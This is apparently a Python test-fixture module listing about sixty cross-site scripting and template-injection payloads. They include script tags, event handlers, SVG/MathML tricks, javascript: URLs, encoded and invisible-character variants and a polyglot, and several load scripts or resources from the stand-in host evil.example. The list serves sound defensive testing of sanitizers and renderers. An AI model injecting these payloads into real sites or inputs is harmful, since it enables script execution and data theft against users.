"""Texts that have run something in other people's pages: what a browser, a template or a renderer may take for orders.

Each calls `ran()`, which a test puts into the page, or `alert()`, or fetches from `evil.example`. After the lists that
are passed around for this (OWASP's cheat sheet, PortSwigger's, the polyglots of 0xSobky and others).
"""

HOST = "evil.example"

PAYLOADS = (
    # Scripts, whole and broken.
    "<script>ran(1)</script>",
    f"<script src=http://{HOST}/a.js></script>",
    "<ScRiPt>ran(2)</sCrIpT>",
    "<scr<script>ipt>ran(3)</scr</script>ipt>",
    "</script><script>ran(4)</script>",
    "</textarea></title></style><script>ran(5)</script>",
    '"><script>ran(6)</script>',
    "'-ran(7)-'",
    "<script>ran(8)//",
    "--><script>ran(9)</script><!--",
    "]]><script>ran(10)</script>",
    # Events.
    "<img src=x onerror=ran(11)>",
    '"><img src=x onerror="ran(12)">',
    "<img/src=x/onerror=ran(13)>",
    "<img src=x onerror=ran(14)//",
    '<IMG """><IMG SRC=x onerror=ran(15)>',
    "<body onload=ran(16)>",
    "<input autofocus onfocus=ran(17)>",
    "<details open ontoggle=ran(18)>x</details>",
    "<video><source onerror=ran(19)></video>",
    "<audio src=x onerror=ran(20)>",
    "<marquee onstart=ran(21)>x</marquee>",
    "<p onmouseover=ran(22)>hover</p>",
    "x onerror=ran(23) y=`",
    # Other languages inside a page.
    "<svg onload=ran(24)>",
    "<svg><script>ran(25)</script></svg>",
    "<svg><animate onbegin=ran(26) attributeName=x dur=1s>",
    f"<svg><image href=http://{HOST}/a.png /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(27)>",
    "<math href=javascript:ran(28)>click</math>",
    "<iframe srcdoc='<script>parent.ran(29)</script>'></iframe>",
    "<iframe src=javascript:ran(30)></iframe>",
    "<object data=data:text/html,<script>ran(31)</script>></object>",
    f"<embed src=http://{HOST}/a.swf>",
    # The page itself.
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href=http://{HOST}/>",
    f"<link rel=stylesheet href=http://{HOST}/a.css>",
    f"<style>@import 'http://{HOST}/b.css'; *{{background:url(http://{HOST}/b.png)}}</style>",
    f"<div style=background:url(http://{HOST}/c.png)>x</div>",
    f"<form action=http://{HOST}/><input type=submit autofocus></form>",
    # Addresses.
    "javascript:ran(32)",
    "java\tscript:ran(33)",
    "<a href=javascript:ran(34)>click</a>",
    "data:text/html,<script>ran(35)</script>",
    f"http://{HOST}/plain",
    f"<img src=http://{HOST}/d.png>",
    # Markdown and what else makes markup of a text.
    "[click](javascript:ran(36))",
    f"![image](http://{HOST}/e.png)",
    f"[![image](http://{HOST}/f.png)](javascript:ran(37))",
    f"<http://{HOST}/auto>",
    "[a]: javascript:ran(38)",
    r"$\href{javascript:ran(39)}{x}$",
    rf"$$\includegraphics{{http://{HOST}/g.png}}$$",
    # Templates.
    "{{constructor.constructor('ran(40)')()}}",
    "${ran(41)}",
    "{{value.text}}<%= ran(42) %>#{ran(43)}",
    "{% raw %}<img src=x onerror=ran(44)>",
    # Entities and other spellings.
    "&lt;img src=x onerror=ran(45)&gt;",
    "&#60;script&#62;ran(46)&#60;/script&#62;",
    "\\u003cscript\\u003eran(47)\\u003c/script\\u003e",
    "%3Cscript%3Eran(48)%3C/script%3E",
    "\uff1cscript\uff1eran(49)\uff1c/script\uff1e",
    "<a href=&#106;avascript:ran(50)>click</a>",
    # Characters that nobody sees, or that turn the line around.
    "\u202e<img src=x onerror=ran(51)>\u202c",
    "<scr\u200bipt>ran(52)</scr\u200bipt>",
    "\ufeff<img src=x onerror=ran(53)>",
    # One that fits many places at once.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=ran(54) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=ran(55)//>\\x3e",
)
